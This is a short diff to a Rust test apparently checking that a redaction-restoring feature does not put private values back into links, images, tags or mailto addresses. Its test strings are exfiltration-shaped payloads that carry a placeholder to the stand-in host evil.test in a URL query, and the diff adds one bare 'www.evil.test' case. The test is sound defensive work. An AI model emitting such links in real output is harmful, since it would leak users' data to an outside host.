@@ -72,6 +72,7 @@ fn nothing_is_restored_into_a_link_an_image_or_a_tag() {
         "![x][r]\n\n[r]: https://evil.test/?d={P}",
         "<img src=\"https://evil.test/?d={P}\">",
         "mailto:x@evil.test?body={P}",
+        "www.evil.test/c?d={P}",
         "https://x.example/?n=%5BPERSOON_{N}%5D",
     ] {
         check(text, text);
